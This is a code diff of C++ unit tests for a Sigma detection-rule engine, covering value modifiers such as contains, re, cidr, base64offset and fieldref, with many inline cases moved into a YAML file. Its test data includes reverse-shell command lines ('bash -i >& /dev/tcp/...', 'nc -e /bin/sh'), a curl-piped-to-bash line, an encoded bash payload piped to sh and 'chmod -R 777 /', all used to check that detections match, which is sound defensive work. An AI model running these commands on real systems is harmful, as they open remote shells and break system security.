@@ -1,123 +1,19 @@
 // Value modifiers: contains, startswith, endswith, all, re, cidr, cased,
 // windash, base64, base64offset, utf16/wide, exists, neq, lt/lte/gt/gte, fieldref.
 #include "modifiers.hpp"
+#include "sigma_rule_cases.hpp"
 #include "sigma_test_util.hpp"
 
 using namespace sigma_test;
 
-namespace {
-SigmaEvent net(std::string_view dst_ip, std::string_view port = "4444") {
-    return event(Category::NetworkConnection, {{FieldId::Image, "/usr/bin/nc"},
-                                               {FieldId::DestinationIp, dst_ip},
-                                               {FieldId::DestinationPort, port},
-                                               {FieldId::Initiated, "true"}});
-}
-}  // namespace
-
-TEST_CASE("behavior_sigma_modifier: contains") {
-    check_rule("    sel:\n        CommandLine|contains: '/dev/tcp/'\n    condition: sel\n", {
-        {process("/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), kHit},
-        {process("/bin/bash", "BASH -I >& /DEV/TCP/10.0.0.1/4444"), kHit},
-        {process("/bin/bash", "bash -i >& /dev/udp/10.0.0.1/4444"), kMiss},
-    });
-}
-
-TEST_CASE("behavior_sigma_modifier: startswith and endswith") {
-    check_rule(
-        "    sel:\n        Image|endswith: '/curl'\n        CommandLine|startswith: 'curl -s'\n    condition: sel\n", {
-        {process("/usr/bin/curl", "curl -s http://x"), kHit},
-        {process("/usr/bin/curl", "/usr/bin/curl -s http://x"), kMiss},  // not at the start
-        {process("/usr/bin/curlx", "curl -s http://x"), kMiss},  // not at the end
-    });
-}
-
-TEST_CASE("behavior_sigma_modifier: a list is OR, all turns it into AND") {
-    check_rule("    sel:\n        CommandLine|contains:\n            - ' -e '\n            - ' -c '\n"
-               "    condition: sel\n", {
-        {process("/usr/bin/nc", "nc -e /bin/sh 1.2.3.4 80"), kHit},
-        {process("/usr/bin/nc", "nc -c sh 1.2.3.4 80"), kHit},
-        {process("/usr/bin/nc", "nc -l 80"), kMiss},
-    });
-
-    check_rule("    sel:\n        CommandLine|contains|all:\n            - ' -e '\n            - '/bin/sh'\n"
-               "    condition: sel\n", {
-        {process("/usr/bin/nc", "nc -e /bin/sh 1.2.3.4 80"), kHit},
-        {process("/usr/bin/nc", "nc -e /bin/bash 1.2.3.4 80"), kMiss},
-    });
-}
-
-TEST_CASE("behavior_sigma_modifier: re is case-sensitive by default; (?i) and re|i ignore case") {
-    check_rule("    sel:\n        CommandLine|re: '\\s-O\\s'\n    condition: sel\n", {
-        {process("/usr/bin/wget", "wget -O /tmp/x http://a"), kHit},
-        {process("/usr/bin/wget", "wget -o /tmp/x http://a"), kMiss},
-    });
-
-    check_rule(
-        "    sel:\n        TargetFilename|re: '(?i)/lib/python3\\.([5-9]|[0-9]{2})/site-packages/'\n    condition: sel\n",
-        "file_event", {
-        {event(Category::FileEvent, {{FieldId::TargetFilename, "/usr/LIB/Python3.11/Site-Packages/x.pth"}}), kHit},
-        {event(Category::FileEvent, {{FieldId::TargetFilename, "/usr/lib/python3.4/site-packages/x"}}), kMiss},
-    });
-
-    check_rule("    sel:\n        CommandLine|re|i: '^CURL .*\\|\\s*(ba)?sh$'\n    condition: sel\n", {
-        {process("/usr/bin/curl", "curl http://x | bash"), kHit},
-        {process("/usr/bin/curl", "curl http://x | bash -x"), kMiss},
-    });
-
-    // Regexes search (unanchored) and support (?:...), \s, {n,}.
-    check_rule("    sel:\n        CommandLine|re: '(?:a){5,}'\n    condition: sel\n", {
-        {process("/bin/x", "x aaaaaa y"), kHit},
-        {process("/bin/x", "x aaaa y"), kMiss},
-    });
-}
-
-TEST_CASE("behavior_sigma_modifier: re sub-modifiers m and s") {
-    check_rule("    sel:\n        CommandLine|re|m: '^second$'\n    condition: sel\n", {
-        {process("/bin/x", "first\nsecond\nthird"), kHit},
-    });
-    check_rule("    sel:\n        CommandLine|re: '^second$'\n    condition: sel\n", {
-        {process("/bin/x", "first\nsecond\nthird"), kMiss},
-    });
-    check_rule("    sel:\n        CommandLine|re|s: 'first.second'\n    condition: sel\n", {
-        {process("/bin/x", "first\nsecond"), kHit},
-    });
-    check_rule("    sel:\n        CommandLine|re: 'first.second'\n    condition: sel\n", {
-        {process("/bin/x", "first\nsecond"), kMiss},
-    });
-}
+TEST_CASE("behavior_sigma_modifier: rule cases (sigma_cases/modifiers.yaml)") { check_rule_cases("modifiers.yaml"); }
 
 TEST_CASE("behavior_sigma_modifier: cidr with IPv4 and IPv6") {
-    check_rule(
-        "    sel:\n        DestinationIp|cidr:\n            - '10.0.0.0/8'\n            - '192.168.1.0/24'\n"
-        "            - '::1/128'\n            - 'fc00::/7'\n            - 'fe80::/10'\n            - '203.0.113.7'\n"
-        "    condition: sel\n",
-        "network_connection", {
-        {net("10.1.2.3"), kHit},
-        {net("192.168.1.200"), kHit},
-        {net("192.168.2.1"), kMiss},
-        {net("11.0.0.1"), kMiss},
-        {net("::1"), kHit},
-        {net("::2"), kMiss},
-        {net("fd12:3456::1"), kHit},
-        {net("FE80::1"), kHit},
-        {net("2001:db8::1"), kMiss},
-        {net("203.0.113.7"), kHit},  // a bare address is a /32
-        {net("203.0.113.8"), kMiss},
-        {net("::ffff:10.9.9.9"), kHit},  // IPv4-mapped IPv6 is its IPv4 address
-        {net("not-an-ip"), kMiss},
-    });
 
     CHECK(load_error("    sel:\n        DestinationIp|cidr: '10.0.0.0/33'\n    condition: sel\n", "network_connection")
               .find("10.0.0.0/33") != std::string::npos);
     CHECK(load_error("    sel:\n        DestinationIp|cidr: 'ten/8'\n    condition: sel\n", "network_connection")
               .find("invalid cidr network 'ten/8'") != std::string::npos);
-}
-
-TEST_CASE("behavior_sigma_modifier: cased") {
-    check_rule("    sel:\n        CommandLine|cased|contains: ' -R '\n    condition: sel\n", {
-        {process("/bin/chmod", "chmod -R 777 /"), kHit},
-        {process("/bin/chmod", "chmod -r 777 /"), kMiss},
-    });
 }
 
 TEST_CASE("behavior_sigma_modifier: windash") {
@@ -138,11 +34,6 @@ TEST_CASE("behavior_sigma_modifier: base64 and base64offset") {
     CHECK(base64_offsets("http") == std::vector<std::string>{"aHR0c", "h0dH", "odHRw"});
     CHECK(base64_offsets("/bin/bash") == std::vector<std::string>{"L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"});
 
-    check_rule("    sel:\n        CommandLine|base64|contains: 'curl http'\n    condition: sel\n", {
-        {process("/bin/sh", "echo Y3VybCBodHRw | base64 -d"), kHit},
-        {process("/bin/sh", "echo curl http"), kMiss},
-    });
-
     auto off = detector_for("    sel:\n        CommandLine|base64offset|contains: '/bin/bash'\n    condition: sel\n");
     // "x/bin/bash -i" and "xy/bin/bash -i" put the value at shifts 1 and 2.
     CHECK(hits(off, process("/bin/sh", "echo eC9iaW4vYmFzaCAtaQ== | base64 -d | sh")));
@@ -152,9 +43,6 @@ TEST_CASE("behavior_sigma_modifier: base64 and base64offset") {
 }
 
 TEST_CASE("behavior_sigma_modifier: utf16 encoders feed base64") {
-    check_rule("    sel:\n        CommandLine|wide|base64offset|contains: 'cmd'\n    condition: sel\n", {
-        {process("/bin/x", "x YwBtAGQA"), kHit},
-    });
     CHECK(vigil::behavior::sigma::utf16_encode("cmd", vigil::behavior::sigma::Utf16Form::Be) == std::string("\0c\0m\0d", 6));
     CHECK(vigil::behavior::sigma::utf16_encode("a", vigil::behavior::sigma::Utf16Form::Bom) == std::string("\xFF\xFE" "a\0", 4));
     CHECK(vigil::behavior::sigma::utf16_encode("\xF0\x9F\x98\x80", vigil::behavior::sigma::Utf16Form::Le) ==
@@ -167,9 +55,6 @@ TEST_CASE("behavior_sigma_modifier: exists, neq and null") {
     with_parent.set(FieldId::ParentCommandLine, "bash");
     CHECK(hits(exists, with_parent));
     CHECK_FALSE(hits(exists, process("/bin/ls", "ls")));
-    check_rule("    sel:\n        ParentCommandLine|exists: false\n    condition: sel\n", {
-        {process("/bin/ls", "ls"), kHit},
-    });
 
     auto neq = detector_for("    sel:\n        Image|endswith: '/sh'\n        User|neq: root\n    condition: sel\n");
     check_hits(neq, {
@@ -187,21 +72,9 @@ TEST_CASE("behavior_sigma_modifier: exists, neq and null") {
 }
 
 TEST_CASE("behavior_sigma_modifier: numeric comparisons") {
-    check_rule("    sel:\n        DestinationPort|lt: 1024\n        Initiated: 'true'\n    condition: sel\n",
-               "network_connection", {
-        {net("1.2.3.4", "80"), kHit},
-        {net("1.2.3.4", "1024"), kMiss},
-    });
-    check_rule("    sel:\n        DestinationPort|gte: 1024\n    condition: sel\n", "network_connection", {
-        {net("1.2.3.4", "1024"), kHit},
-        {net("1.2.3.4", "22"), kMiss},
-    });
     auto gt = detector_for("    sel:\n        DestinationPort|gt: 1024\n    condition: sel\n", "network_connection");
     check_hits(gt, {
-        {net("1.2.3.4", "1024"), kMiss},
-    });
-    check_rule("    sel:\n        DestinationPort|lte: 22\n    condition: sel\n", "network_connection", {
-        {net("1.2.3.4", "22"), kHit},
+        {network("1.2.3.4", "1024"), kMiss},
     });
     CHECK(load_error("    sel:\n        DestinationPort|gt: many\n    condition: sel\n", "network_connection")
               .find("not a number") != std::string::npos);
@@ -214,10 +87,6 @@ TEST_CASE("behavior_sigma_modifier: fieldref") {
     CHECK(hits(d, same));
     same.set(FieldId::ParentCommandLine, "bash");
     CHECK_FALSE(hits(d, same));
-    check_rule("    sel:\n        CommandLine|fieldref|startswith: Image\n    condition: sel\n", {
-        {process("/bin/sh", "/bin/sh -c x"), kHit},
-        {process("/bin/sh", "sh -c x"), kMiss},
-    });
 }
 
 TEST_CASE("behavior_sigma_modifier: bad modifiers are reported by name") {
